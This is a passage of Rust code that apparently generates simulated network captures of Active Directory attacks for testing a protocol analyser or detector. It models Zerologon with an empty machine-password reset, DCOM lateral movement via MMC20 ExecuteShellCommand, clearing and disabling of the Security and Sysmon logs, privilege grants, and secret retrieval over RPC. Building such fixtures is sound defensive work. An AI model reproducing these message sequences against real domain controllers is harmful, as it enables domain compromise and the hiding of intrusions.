    s.u32(0x80);
    s.u32(0x000f_07ff);
    let uh = w.rng.handle();
    let mut r = with_handle(le, &uh);
    r.u32(0x000f_07ff);
    r.u32(1112);
    r.u32(0);
    w.call_transceive(c, &fid, Req::new(2, 50, &s.b), 6_000, &r.b);
    w.wait(300);
    let stub = st_samr_open(le, &dom, 0x0000_0004, 544);
    let alias = open_call(&mut w, c, &fid, Req::new(3, 27, &stub), 700);
    w.wait(200);
    let mut s = with_handle(le, &alias);
    sid(&mut s, "S-1-5-21-1111111111-2222222222-3333333333-1105");
    w.call_transceive(c, &fid, Req::new(4, 31, &s.b), 1_400, &st_status(le, 0));
    w.wait(200);
    let stub = st_samr_open(le, &dom, 0x000f_07ff, 500);
    let user = open_call(&mut w, c, &fid, Req::new(5, 34, &stub), 700);
    w.wait(200);
    let mut s = with_handle(le, &user);
    s.u16(18);
    s.u16(18);
    let hashes = w.rng.bytes(32);
    s.bytes(&hashes);
    s.bytes(&[1, 0, 0]);
    w.call_transceive(c, &fid, Req::new(6, 58, &s.b), 2_200, &st_status(le, 0));
    w.smb_close(c, &fid);
    let fid = pipe(&mut w, c, "lsarpc", &LSARPC, 0x000a_a102);
    let pol = w.rng.handle();
    let mut s = with_handle(le, &pol);
    ustring(&mut s, "G$BCKUPKEY_PREFERRED");
    s.u32(0);
    let reply = {
        let mut r = Buf::new(le);
        r.u32(0x0002_0000);
        let b = w.rng.bytes(40);
        r.bytes(&b);
        r.u32(0);
        r.b
    };
    w.call_transceive(c, &fid, Req::new(2, 43, &s.b), 1_300, &reply);
    w.wait(200);
    let mut s = with_handle(le, &pol);
    sid(&mut s, "S-1-5-21-1111111111-2222222222-3333333333-1105");
    s.u32(1);
    ptr(&mut s);
    s.u32(1);
    s.u16(32);
    s.u16(32);
    ptr(&mut s);
    s.u32(16);
    s.u32(0);
    s.u32(16);
    for u in "SeDebugPrivilege".encode_utf16() {
        s.u16(u);
    }
    w.call_transceive(c, &fid, Req::new(3, 37, &s.b), 1_100, &st_status(le, 0));
    w.smb_close(c, &fid);
    w.close(c);
    w
}

/// Scenario a11: log tampering on DC1: the Security log opened and cleared without a
/// backup over \pipe\eventlog; the Sysmon channel cleared and then disabled over the
/// MS-EVEN6 TCP endpoint (wevtutil cl / sl /e:false).
fn a11_event_logs() -> World {
    let mut w = World::new(31);
    let le = true;
    let c = smb_session(&mut w, (WS, 51501), DC1, 31);
    let fid = pipe(&mut w, c, "eventlog", &EVENTLOG, 0x000b_a101);
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.u16(0x005c);
    ustring(&mut s, "Security");
    ustring(&mut s, "");
    s.u32(1);
    s.u32(1);
    let lh = open_call(&mut w, c, &fid, Req::new(2, 7, &s.b), 800);
    w.wait(200);
    let mut s = with_handle(le, &lh);
    s.u32(0);
    w.call_transceive(c, &fid, Req::new(3, 0, &s.b), 9_500, &st_status(le, 0));
    w.smb_close(c, &fid);
    w.close(c);
    w.wait(1_000);
    let t = w.conn((WS, 51502), (DC1, 49670), 0x3b00_0001, 0x3b00_1001, le);
    handshake_bind(&mut w, t, &EVEN6, 0x000b_a102, [400, 300, 300]);
    let ctl = w.rng.handle();
    let channel = "Microsoft-Windows-Sysmon/Operational";
    let mut s = with_handle(le, &ctl);
    s.wstr(channel);
    s.u32(0);
    s.u32(0);
    w.call(t, Req::new(2, 6, &s.b), 7_000, &[0; 16]);
    w.wait(400);
    let mut s = Buf::new(le);
    s.wstr(channel);
    s.u32(1);
    s.u32(1);
    ptr(&mut s);
    s.u32(1);
    align8(&mut s);
    s.u32(1); // EvtRpcVarTypeBoolean
    s.u32(0);
    s.u32(1);
    align8(&mut s);
    s.u8(0); // Enabled = false
    w.call(t, Req::new(3, 21, &s.b), 3_000, &[0; 16]);
    w.wait(400);
    w.close(t);
    w
}

// ---------------------------------------------------------------------------
// DCOM (MS-DCOM)

const CLSID_MMC20: &str = "49b2791a-b1ae-4c90-9b8e-e860ba07f889";
const IID_IDISPATCH: &str = "00020400-0000-0000-c000-000000000046";

/// One activation property serialized with the type serialization version 1 headers.
fn serialized(body: &[u8]) -> Vec<u8> {
    let mut v = vec![1, 0x10, 8, 0, 0xcc, 0xcc, 0xcc, 0xcc];
    v.extend_from_slice(&(body.len() as u32).to_le_bytes());
    v.extend_from_slice(&[0; 4]);
    v.extend_from_slice(body);
    v
}

/// OBJREF_CUSTOM carrying an activation properties BLOB (MS-DCOM 2.2.22): a
/// CustomHeader listing SpecialSystemProperties and InstantiationInfoData (class `clsid`,
/// one requested interface `iid`).
fn activation_objref(clsid: &str, iid: &str) -> Vec<u8> {
    let mut inst = Buf::new(true);
    inst.uuid(clsid);
    inst.u32(0x14);
    inst.u32(0);
    inst.u32(0);
    inst.u32(1);
    inst.u32(0);
    ptr(&mut inst);
    inst.u32(0);
    inst.u16(5);
    inst.u16(7);
    inst.u32(1);
    inst.uuid(iid);
    let inst = serialized(&inst.b);
    let special = serialized(&[0u8; 48]);
    let blob = activation_blob([
        ("000001b9-0000-0000-c000-000000000046", &special), // SpecialSystemProperties
        ("000001ab-0000-0000-c000-000000000046", &inst),    // InstantiationInfoData
    ]);
    objref_custom(
        "000001a2-0000-0000-c000-000000000046", // IActivationPropertiesIn
        "00000338-0000-0000-c000-000000000046", // CLSID_ActivationPropertiesIn
        &blob,
    )
}

/// An activation properties BLOB (MS-DCOM 2.2.22) of two serialized properties, each
/// given with its class: the BLOB's size, the CustomHeader (destination context 2,
/// the classes and sizes), the properties.
fn activation_blob(props: [(&str, &[u8]); 2]) -> Vec<u8> {
    let mut hdr = Buf::new(true);
    hdr.u32(0); // totalSize, patched below
    hdr.u32(0); // headerSize, patched below
    hdr.u32(0);
    hdr.u32(2); // destCtx
    hdr.u32(2); // cIfs
    hdr.bytes(&[0; 16]);
    ptr(&mut hdr);
    ptr(&mut hdr);
    hdr.u32(0);
    hdr.u32(2);
    for (clsid, _) in props {
        hdr.uuid(clsid);
    }
    hdr.u32(2);
    for (_, body) in props {
        hdr.u32(body.len() as u32);
    }
    let mut h = serialized(&hdr.b);
    let hl = h.len() as u32;
    h[20..24].copy_from_slice(&hl.to_le_bytes());
    let total = (h.len() + props[0].1.len() + props[1].1.len()) as u32;
    h[16..20].copy_from_slice(&total.to_le_bytes());
    let mut blob = Vec::new();
    blob.extend_from_slice(&total.to_le_bytes());
    blob.extend_from_slice(&[0; 4]);
    blob.extend_from_slice(&h);
    for (_, body) in props {
        blob.extend_from_slice(body);
    }
    blob
}

/// A non-null `[unique] MInterfacePointer*`: referent id, MaximumCount, ulCntData, the
/// OBJREF.
fn iface_ptr(w: &mut Buf, objref: &[u8]) {
    ptr(w);
    w.u32(objref.len() as u32);
    w.u32(objref.len() as u32);
    w.bytes(objref);
}

fn st_get_ids_of_names(names: &[&str]) -> Vec<u8> {
    let mut s = Buf::new(true);
    orpcthis(&mut s, "5b6c7d8e-9fa0-4b1c-8d2e-3f405162738a");
    s.bytes(&[0; 16]); // riid: IID_NULL
    s.u32(names.len() as u32);
    for _ in names {
        ptr(&mut s);
    }
    for n in names {
        s.wstr(n);
    }
    s.u32(names.len() as u32);
    s.u32(0x0409);
    s.b
}

/// OBJREF_STANDARD (MS-DCOM 2.2.18.4): interface `iid`, STDOBJREF with IPID `ipid`, and a
/// DUALSTRINGARRAY naming the object exporter (`ncacn_ip_tcp` at `host[port]`).
fn std_objref(iid: &str, ipid: &str, oxid: u64, binding: &str) -> Vec<u8> {
    let mut o = Buf::new(true);
    o.bytes(b"MEOW");
    o.u32(1); // OBJREF_STANDARD
    o.uuid(iid);
    o.u32(0); // STDOBJREF flags
    o.u32(5); // cPublicRefs
    o.bytes(&oxid.to_le_bytes());
    o.bytes(&(oxid ^ 0x5a5a).to_le_bytes()); // OID
    o.uuid(ipid);
    let mut bindings: Vec<u16> = vec![0x0007]; // ncacn_ip_tcp
    bindings.extend(binding.encode_utf16());
    bindings.extend([0, 0]); // end of string bindings
    let security_offset = bindings.len() as u16;
    bindings.extend([0x000a, 0xffff, 0, 0]); // RPC_C_AUTHN_WINNT, no principal
    o.u16(bindings.len() as u16);
    o.u16(security_offset);
    for u in bindings {
        o.u16(u);
    }
    o.b
}

/// RemoteCreateInstance's response (MS-DCOM 3.1.2.5.2.3.2): ORPCTHAT, the
/// ActivationPropertiesOut OBJREF_CUSTOM (CLSID 00000339) whose BLOB holds a CustomHeader,
/// PropsOutInfo (one interface: `iid`, S_OK, its OBJREF_STANDARD) and ScmReplyInfoData
/// (OXID, the object exporter's bindings, IPID of its IRemUnknown), then S_OK.
fn create_instance_response(iid: &str, ipid: &str, rem_unknown: &str, binding: &str) -> Vec<u8> {
    let oxid = 0x7d1c_2a3b_4c5d_6e7f;
    let intf = std_objref(iid, ipid, oxid, binding);
    let mut props = Buf::new(true);
    props.u32(1); // cIfs
    ptr(&mut props);
    ptr(&mut props);
    ptr(&mut props);
    props.u32(1);
    props.uuid(iid);
    props.u32(1);
    props.u32(0); // S_OK
    props.u32(1);
    iface_ptr(&mut props, &intf);
    let props = serialized(&props.b);
    let mut reply = Buf::new(true);
    reply.u32(0); // pdwReserved
    ptr(&mut reply);
    align8(&mut reply);
    reply.bytes(&oxid.to_le_bytes());
    ptr(&mut reply); // pdsaOxidBindings
    reply.uuid(rem_unknown);
    reply.u32(0x0006); // authnHint: RPC_C_AUTHN_LEVEL_PKT_PRIVACY
    reply.u16(5);
    reply.u16(7);
    let mut dsa: Vec<u16> = vec![0x0007];
    dsa.extend(binding.encode_utf16());
    dsa.extend([0, 0, 0x000a, 0xffff, 0, 0]);
    reply.u32(dsa.len() as u32);
    reply.u16(dsa.len() as u16);
    reply.u16((dsa.len() - 4) as u16);
    for u in dsa {
        reply.u16(u);
    }
    let reply = serialized(&reply.b);
    let blob = activation_blob([
        ("00000339-0000-0000-c000-000000000046", &props), // PropsOutInfo
        ("000001b6-0000-0000-c000-000000000046", &reply), // ScmReplyInfoData
    ]);
    let o = objref_custom(
        "000001a3-0000-0000-c000-000000000046", // IActivationPropertiesOut
        "00000339-0000-0000-c000-000000000046", // CLSID_ActivationPropertiesOut
        &blob,
    );
    let mut r = Buf::new(true);
    orpcthat(&mut r);
    iface_ptr(&mut r, &o);
    r.align(4);
    r.u32(0); // S_OK
    r.b
}

/// IDispatch::Invoke's response (MS-OAUT 3.1.4.4) returning an object: ORPCTHAT, the
/// VARIANT result (VT_DISPATCH with its OBJREF_STANDARD), an empty EXCEPINFO, the
/// argument error index and S_OK.
fn invoke_returns_object(iid: &str, ipid: &str, binding: &str) -> Vec<u8> {
    let objref = std_objref(iid, ipid, 0x7d1c_2a3b_4c5d_6e7f, binding);
    let mut r = Buf::new(true);
    orpcthat(&mut r);
    ptr(&mut r); // pVarResult
    align8(&mut r);
    r.u32((objref.len() as u32 + 40) / 8); // clSize
    r.u32(0);
    r.u16(9); // VT_DISPATCH
    r.u16(0);
    r.u16(0);
    r.u16(0);
    r.u32(9); // union arm
    iface_ptr(&mut r, &objref);
    r.align(4);
    r.u16(0); // EXCEPINFO wCode
    r.u16(0);
    r.u32(0); // bstrSource
    r.u32(0); // bstrDescription
    r.u32(0); // bstrHelpFile
    r.u32(0);
    r.u32(0);
    r.u32(0);
    r.u32(0); // scode
    r.u32(0); // puArgErr
    r.u32(0); // S_OK
    r.b
}

/// Scenario a12: DCOM lateral movement with MMC20.Application (dcomexec's default):
/// RemoteCreateInstance on port 135 asking for IDispatch (the response hands out its
/// IPID), then on the object exporter's port the IDispatch calls that walk
/// Document → ActiveView (each Invoke returns the next object's IPID) and find
/// ExecuteShellCommand and invoke it. A second connection to the exporter is picked up
/// after its bind (mid-stream): its calls are named by their IPID.
fn a12_dcom_mmc20() -> World {
    let mut w = World::new(32);
    let le = true;
    let binding = "10.20.0.7[49712]";
    let app = "0000a001-2008-0f1c-5d6e-7f8091a2b3c4";
    let doc = "0000a002-2008-0f1c-5d6e-7f8091a2b3c4";
    let view = "0000a003-2008-0f1c-5d6e-7f8091a2b3c4";
    let a = w.conn((WS, 51601), (MEMBER, 135), 0x3c00_0001, 0x3c00_1001, le);
    handshake_bind(&mut w, a, &ISCMACTIVATOR, 0x000c_a101, [400, 300, 300]);
    let objref = activation_objref(CLSID_MMC20, IID_IDISPATCH);
    let mut s = Buf::new(le);
    orpcthis(&mut s, "4a5b6c7d-8e9f-4a0b-9c1d-2e3f40516273");
    s.u32(0);
    iface_ptr(&mut s, &objref);
    let r = create_instance_response(
        IID_IDISPATCH,
        app,
        "0000a000-2008-0f1c-5d6e-7f8091a2b3c4",
        binding,
    );
    w.call(a, Req::new(2, 4, &s.b), 38_000, &r);
    w.wait(500);
    w.close(a);
    let b = w.conn((WS, 51602), (MEMBER, 49712), 0x3c00_2001, 0x3c00_3001, le);
    handshake_bind(&mut w, b, &IDISPATCH, 0x000c_a102, [300, 250, 300]);
    let ids_reply = |call_id: u32| {
        let mut r = Buf::new(le);
        orpcthat(&mut r);
        r.u32(1);
        r.u32(call_id);
        r.u32(0);
        r.b
    };
    let mut call_id = 2;
    for (on, name, next) in [
        (app, "Document", Some(doc)),
        (doc, "ActiveView", Some(view)),
        (view, "ExecuteShellCommand", None),
    ] {
        let stub = st_get_ids_of_names(&[name]);
        w.call(
            b,
            Req::new(call_id, 5, &stub).obj(on),
            900,
            &ids_reply(call_id),
        );
        w.wait(200);
        call_id += 1;
        let stub = w.rng.bytes(180);
        let reply = match next {
            Some(next) => invoke_returns_object(IID_IDISPATCH, next, binding),
            None => w.rng.bytes(40),
        };
        w.call(b, Req::new(call_id, 6, &stub).obj(on), 2_500, &reply);
        w.wait(200);
        call_id += 1;
    }
    w.wait(200);
    w.close(b);
    // Mid-stream: the bind happened before the capture started.
    let m = w.conn((WS, 51603), (MEMBER, 49712), 0x3c00_4001, 0x3c00_5001, le);
    let stub = st_get_ids_of_names(&["ExecuteShellCommand"]);
    let reply = w.rng.bytes(20);
    w.call(m, Req::new(7, 5, &stub).obj(view), 900, &reply);
    w.wait(300);
    w
}

// ---------------------------------------------------------------------------
// netlogon (MS-NRPC)

fn st_req_challenge(le: bool, challenge: [u8; 8]) -> Vec<u8> {
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.wstr(r"\\DC1");
    s.wstr("DC1");
    s.bytes(&challenge);
    s.b
}

/// The parameters NetrServerAuthenticate3 and NetrServerPasswordSet2 start with:
/// PrimaryName, AccountName DC1$, SecureChannelType ServerSecureChannel, ComputerName.
fn dc1_secure_channel(le: bool) -> Buf {
    let mut s = Buf::new(le);
    ptr(&mut s);
    s.wstr(r"\\DC1");
    s.wstr("DC1$");
    s.u16(6); // ServerSecureChannel
    s.wstr("DC1");
    s
}

fn st_authenticate3(le: bool, cred: [u8; 8]) -> Vec<u8> {
    let mut s = dc1_secure_channel(le);
    s.bytes(&cred);
    s.u32(0x212f_ffff);
    s.b
}

fn auth3_resp(le: bool, st: u32) -> Vec<u8> {
    let mut r = Buf::new(le);
    r.bytes(&[0; 8]);
    r.u32(0x212f_ffff);
    r.u32(if st == 0 { 1000 } else { 0 });
    r.u32(st);
    r.b
}

/// Scenario a13: Zerologon against an unpatched Windows DC: one connection with three
/// zero-credential authentications refused (STATUS_ACCESS_DENIED) and the fourth
/// accepted (STATUS_SUCCESS, the 1-in-256 case), then NetrServerPasswordSet2 with an
/// empty password on a second connection. Samba refuses every attempt; this is what a
/// vulnerable DC answers.
fn a13_zerologon_windows() -> World {
    let mut w = World::new(33);
    let le = true;
    let a = w.conn((WS, 51701), (DC1, 49668), 0x3d00_0001, 0x3d00_1001, le);
    handshake_bind(&mut w, a, &NETLOGON, 0x000d_a101, [300, 200, 200]);
    let mut id = 2;
    for st in [0xc000_0022, 0xc000_0022, 0xc000_0022, 0] {
        let mut r = Buf::new(le);
        r.bytes(&[0x5a; 8]);
        r.u32(0);
        w.call(a, Req::new(id, 4, &st_req_challenge(le, [0; 8])), 400, &r.b);
        w.wait(100);
        w.call(
            a,
            Req::new(id + 1, 26, &st_authenticate3(le, [0; 8])),
            600,
            &auth3_resp(le, st),
        );
        w.wait(100);
        id += 2;
    }
    w.close(a);
    let b = w.conn((WS, 51702), (DC1, 49668), 0x3d00_2001, 0x3d00_3001, le);
    handshake_bind(&mut w, b, &NETLOGON, 0x000d_a102, [300, 200, 200]);
    let mut s = dc1_secure_channel(le);
    s.bytes(&[0; 8]);
    s.u32(0);
    s.bytes(&[0; 516]);
    let mut r = Buf::new(le);
    r.bytes(&[0; 12]);
    r.u32(0);
    w.call(b, Req::new(2, 30, &s.b), 3_000, &r.b);
    w.wait(300);
    w.close(b);
    w
}

pub(crate) const SCENARIOS: &[Scenario] = &[
    ("dcsync_workstation", a1_dcsync_workstation, 20),
    ("dc_replication", a2_dc_replication, 20),
    ("dcshadow", a3_dcshadow, 20),
    ("sid_history", a4_sid_history, 20),
    ("coercions_windows", a5_coercions, 20),
    ("printnightmare", a6_printnightmare, 20),
    ("print_client", a7_print_client, 20),
    (
        "registry_persistence_dump",
        a8_registry_persistence_and_dump,
        20,
    ),
    ("registry_read", a9_registry_read, 20),
    ("accounts_secrets", a10_accounts_and_secrets, 20),
    ("event_logs", a11_event_logs, 20),
    ("dcom_mmc20", a12_dcom_mmc20, 20),
    ("zerologon_windows", a13_zerologon_windows, 20),
];
